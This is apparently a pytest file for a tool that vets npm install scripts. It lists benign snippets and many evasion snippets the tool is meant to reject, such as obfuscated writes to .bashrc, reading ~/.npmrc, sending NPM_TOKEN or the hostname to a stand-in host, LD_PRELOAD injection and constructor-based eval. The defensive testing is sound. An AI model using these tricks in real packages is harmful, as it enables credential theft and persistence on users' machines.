"""Scripts that are understood wholly, and ways around that judgement."""

import json

import pytest

from tests.factories import tree
from vetting.checks._install_modules import why_not

HEAD = """#!/usr/bin/env node
const fs = require("fs"); const os = require("os"); const path = require("path");
const home = os.homedir(); const own = path.join(__dirname, "data");
"""
DATA = {"hosts.json": '["x86"]', "notes.txt": "constructor", "lib/out.js": ""}
RC = 'fs.appendFileSync(path.join(home, ".bashrc"), "x");'


def understood(script: str, **files: str) -> bool:
    """Of a package with the name `bird-notes`."""
    package = tree(
        {"package.json": json.dumps({"name": "bird-notes"}), **DATA, **files, "setup.js": script}
    )
    return why_not(package, "setup.js") is None


@pytest.mark.parametrize(
    "script",
    [
        'console.log("a sentence about http and child_process");',
        'if (!process.env.NO_COLOR) console.log("\\u001b[33mbirds\\u001b[0m");',
        (
            "const dir = process.env.BIRD_NOTES_HOME || path.join(home, '.bird-notes');\n"
            "fs.mkdirSync(dir, { recursive: true });"
        ),
        ("readAnswer(Buffer.from('yes'));\nfunction readAnswer(said) { return said.toString(); }"),
        (
            "for (const name of fs.readdirSync(own)) fs.copyFileSync(path.join(own, name), "
            "path.join(os.tmpdir(), name));"
        ),
        (
            "const put = (to, text) => fs.writeFileSync(to, text);\n"
            "put(path.join(own, 'a.json'), '{}');"
        ),
        "const { length } = [1];",
        (
            "const { execFileSync: run } = require('child_process');\n"
            "try { run('git', ['rev-parse', 'HEAD'], { stdio: 'ignore', cwd: __dirname }); } "
            "catch {}"
        ),
        "require('child_process').execSync('node-gyp rebuild', { stdio: 'inherit' });",
        (
            "require('child_process').spawnSync(process.execPath, [path.join(__dirname, 'lib', "
            "'more.js')]);"
        ),
        ("fs.cpSync(own, path.join(home, '.local', 'share', 'bird-notes'), { recursive: true });"),
        (
            "fs.mkdirSync(path.join(process.env.XDG_CACHE_HOME ?? path.join(home, '.cache'), "
            "'birds'));"
        ),
        (
            "const counts = {};\n"
            "for (const name of fs.readdirSync(own)) { const e = path.extname(name);\n"
            "counts[e] = (counts[e] || 0) + 1; }"
        ),
        (
            "class Bar { constructor(n) { this.n = n; } draw() { return '#'.repeat(this.n); } }\n"
            "process.stdout.write(new Bar(3).draw());"
        ),
        "const seen = Object.prototype.hasOwnProperty.call({}, 'a');",
        (
            "new Promise((done) => setTimeout(done, 5)).then(() => "
            "console.log('done')).catch(console.error);"
        ),
        (
            "let pkg = {}; try { pkg = JSON.parse(fs.readFileSync(path.join(own, "
            "'package.json'))); } catch {}\n"
            "console.log(pkg.name);"
        ),
        (
            "function walk(dir) { for (const one of fs.readdirSync(dir, { withFileTypes: true "
            "}))\n"
            "one.isDirectory() ? walk(path.join(dir, one.name)) : fs.rmSync(path.join(dir, "
            "one.name)); }\n"
            "walk(own);"
        ),
    ],
)
def test_what_is_understood(script: str) -> None:
    assert understood(HEAD + script, **{"lib/more.js": "console.log(1);"})


AROUND = {
    "a path of parts": 'fs.appendFileSync(path.join(home, "." + ["bash", "rc"].join("")), "x");',
    "a template": 'const n = "bash"; fs.appendFileSync(`${home}/.${n}rc`, "x");',
    "letters by their numbers": 'fs.appendFileSync(path.join(home, "\\56bashrc"), "x");',
    "steps upwards": 'fs.writeFileSync(path.join(__dirname, "..", "zod", "index.js"), "x");',
    "steps of a list": 'for (const p of ["a", "../../x"]) fs.writeFileSync(path.join(own, p), "x");',
    "a folder that is gone up": (
        "let d = __dirname; for (let i = 0; i < 9; i++) d = path.dirname(d);\n"
        'fs.writeFileSync(path.join(d, "x"), "x");'
    ),
    "an address": 'fs.writeFileSync(new URL("%2e%2e/x.js", import.meta.url), "x");',
    "a function's parameter": (
        'const put = (p) => fs.writeFileSync(path.join(home, p), "x");\nput("a");'
    ),
    "a parameter from elsewhere": (
        'function put(p) { fs.writeFileSync(p, "x"); }\n[".bashrc"].forEach(put);'
    ),
    "a member set again": (
        'const at = { p: own }; at.p = path.join(home, ".zshrc"); fs.writeFileSync(at.p, "x");'
    ),
    "a member set by a name": (
        'const at = { p: own }; at[["p"][0]] = path.join(home, "x"); fs.writeFileSync(at.p, "x");'
    ),
    "a table spread over it": (
        'const at = { p: own, ...{ p: path.join(home, ".zshrc") } }; fs.writeFileSync(at.p, "x");'
    ),
    "a list that grows": (
        'const all = [own]; all.push(path.join(home, "x")); '
        'for (const one of all) fs.writeFileSync(one, "x");'
    ),
    "an argument more": (
        'const args = ["--version"]; args.push("x"); '
        'require("child_process").execFileSync("git", args);'
    ),
    "an option more": (
        'const how = { stdio: "inherit" }; how.shell = "./x"; '
        'require("child_process").execFileSync("git", ["--version"], how);'
    ),
    "a variable set again": 'let p = own; p = path.join(home, ".zshrc"); fs.writeFileSync(p, "x");',
    "a pattern sets it": 'let p = own; [p] = [path.join(home, ".zshrc")]; fs.writeFileSync(p, "x");',
    "declared twice": 'var p = own; var p = path.join(home, ".zshrc"); fs.writeFileSync(p, "x");',
    "moved to code": (
        'fs.renameSync(path.join(__dirname, "notes.txt"), path.join(__dirname, "lib/out.js"));'
    ),
    "a link": 'fs.symlinkSync(path.join(home, ".ssh"), path.join(own, "a"));',
    "another package": 'fs.writeFileSync("node_modules/zod/index.js", "x");',
    "an agent's settings": 'fs.writeFileSync(path.join(home, ".config", "claude", "x.json"), "{}");',
    "a name that is anybody's": 'fs.mkdirSync(path.join(home, ".config", "autostart", "bird-notes"));',
    "a module under another name": 'let cp = require("child_process"); cp = cp; cp.exec("x");',
    "a module handed on": 'const f = (m) => m.exec("x"); f(require("child_process"));',
    "a module in a promise": 'import("child_process").then((m) => m.exec("x"));',
    "a module of a module": 'const { promises: { writeFile: w } } = fs; w(path.join(home, ".bashrc"), "x");',
    "a module by a pattern": 'const { spawnSync = 1 } = require("child_process"); spawnSync("sh");',
    "a module put elsewhere": 'const o = {}; o.m = require("child_process"); o.m.exec("x");',
    "what a module exports": 'import { run } from "./again.js"; run("x");',
    "what is exported again": 'import { exec } from "./again.js"; exec("x");',
    "a constructor": '[].map["const" + "ructor"]("x")();',
    "a constructor in a pattern": 'const { constructor: F } = () => 1; F("x")();',
    "a constructor in two steps": 'const k = ["con", "structor"].join(""); const f = [].at; f[k]("x")();',
    "a constructor that is read": (
        'const k = fs.readFileSync("notes.txt", "utf8"); const v = [][k]; v[k]("x")();'
    ),
    "a constructor of another spelling": "[].map.\\u0063onstructor('x')();",
    "a function that is handed": 'setTimeout(["x"].map((a) => a)[0]);',
    "this": 'const g = (function () { return this; })(); g.eval("x");',
    "the process by another name": 'const p = process; p["main" + "Module"].require("child_process");',
    "a template that is called": "const f = fs.writeFileSync; f`x`;",
    "a global that is changed": "console.log = fs.writeFileSync;",
    "a require that is made elsewhere": 'require("module").createRequire("/x/")("./setup.js");',
    "require as a value": 'const o = { r: require }; o.r("child_process");',
    "a shell": 'require("child_process").execFileSync("git", ["--version"], { shell: "./x" });',
    "a command that is put together": 'require("child_process").execSync("git rev" + "-parse; sh x");',
    "what git is told": (
        'require("child_process").execFileSync("git", ["config", "--global", '
        '"core.hooksPath", "x"]);'
    ),
    "a program that goes on": 'require("child_process").spawn("git", ["--version"], { detached: true });',
    "variables of a program": (
        'require("child_process").execFileSync("git", ["--version"], { env: { '
        '...process.env, LD_PRELOAD: "./x" } });'
    ),
    "a script that it wrote": (
        'fs.writeFileSync(path.join(__dirname, "lib/out.js"), x());\n'
        "function x() {}\n"
        'require("child_process").spawnSync(process.execPath, [path.join(__dirname, '
        '"lib/out.js")]);'
    ),
    "Node.js with other options": (
        'const { spawnSync } = require("child_process");'
        'spawnSync(process.execPath, ["-r", "./x", "./lib/out.js"]);'
    ),
    "a script that is no script": (
        'require("child_process").execFileSync(path.join(__dirname, "notes.txt"), ["--version"]);'
    ),
    "decoding": 'fs.writeFileSync("lib/out.js", Buffer.from("eA==", "base64"));',
    "unpacking": (
        'fs.writeFileSync("lib/out.js", require("zlib").gunzipSync(fs.readFileSync("notes.txt")));'
    ),
    "all variables": "fs.writeFileSync('x', JSON.stringify(process.env));",
    "a secret variable": "fs.writeFileSync('x', process.env.NPM_TOKEN);",
    "variables for Node.js": "process.env.NODE_OPTIONS = '-r ./x';",
    "a login that is read": 'fs.copyFileSync(path.join(home, ".npmrc"), path.join(own, "a"));',
    "a login in parts": 'const n = [".n", "pmrc"]; fs.readFileSync(path.join(home, n.join("")));',
    "an address with a secret": "fetch(`https://a.example/${os.hostname()}`);",
    "an address with a path": "fetch(`https://a.example/${fs.readdirSync(home)[0]}`);",
    "a body": 'fetch("https://a.example/", { method: "POST", body: "x" });',
    "headers": 'fetch("https://a.example/", { headers: { a: os.userInfo().username } });',
    "an answer that is kept": (
        'fetch("https://a.example/").then((r) => r.text()).then((t) => fs.writeFileSync("x", t));'
    ),
    "a folder gone up by a module": 'import { up } from "./again.js"; fs.writeFileSync(up(__dirname), "x");',
    "a checksum of another text": (
        'const { createHash } = require("crypto");\n'
        'if (createHash("sha256").update("a").digest("hex") !== '
        '"0000000000000000000000000000000000000000000000000000000000000000") throw new '
        "Error();\n"
        'fetch("https://a.example/").then((r) => r.text()).then((t) => fs.writeFileSync("x", '
        "t));"
    ),
    "checksums that it wrote": (
        "const { createHash } = require('crypto'); const at = path.join(__dirname, 'hosts.json');\n"
        "fetch('https://a.example/s').then((r) => r.text()).then((t) => fs.writeFileSync(at, t));\n"
        "const data = fs.readFileSync('notes.txt'); const sums = JSON.parse(fs.readFileSync(at));\n"
        "if (createHash('sha256').update(data).digest('hex') !== sums[0]) throw new Error();"
    ),
    "a checksum that is fetched": (
        'const { createHash } = require("crypto"); let sum;\n'
        'fetch("https://a.example/s").then((r) => r.text()).then((t) => { sum = t; });\n'
        'if (createHash("sha256").update(sum).digest("hex") !== sum) throw new Error();\n'
        'fetch("https://a.example/").then((r) => r.text()).then((t) => fs.writeFileSync("x", '
        "t));"
    ),
}
KNOWN = """const { createHash, timingSafeEqual } = require("crypto");
const sums = JSON.parse(fs.readFileSync(path.join(__dirname, "sums.json"), "utf8"));
async function bring() {
  const bytes = Buffer.from(await (await fetch("https://a.example/seek")).arrayBuffer());
  const known = Buffer.from(sums[process.platform], "hex");
  BEFORE
  const actual = createHash("sha256").update(bytes).digest();
  if (known.length !== 32 || !timingSafeEqual(actual, known)) throw new Error("another file");
  AFTER
}
bring();
"""
SUMS = json.dumps(
    {"version": "1", "linux": "9a1c3e5d7f90b2d4f6a8c0e2143658709bbdcfe1f30527496b8dafc1e3052749"}
)
WRITE = 'fs.writeFileSync(path.join(__dirname, "data", "seek"), bytes);'
MORE = 'const more = Buffer.from(await (await fetch("https://a.example/more")).arrayBuffer());'


def test_a_checksum_of_the_package_s_own_as_bytes() -> None:
    kept = KNOWN.replace("BEFORE", "").replace("AFTER", WRITE)
    assert understood(HEAD + kept, **{"sums.json": SUMS})


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (WRITE, ""),
        (MORE, WRITE.replace("bytes", "more")),
        (MORE, f"bytes.set(more); {WRITE}"),
    ],
)
def test_a_checksum_of_what_is_not_kept(before: str, after: str) -> None:
    kept = KNOWN.replace("BEFORE", before).replace("AFTER", after)
    assert not understood(HEAD + kept, **{"sums.json": SUMS})


AGAIN = """import path from "node:path";
export { exec } from "node:child_process";
import { exec as run } from "node:child_process";
export { run };
export const up = (at) => path.join(at, "..", "x");
"""


@pytest.mark.parametrize("way", AROUND)
def test_what_is_not(way: str) -> None:
    assert not understood(HEAD + AROUND[way], **{"again.js": AGAIN})
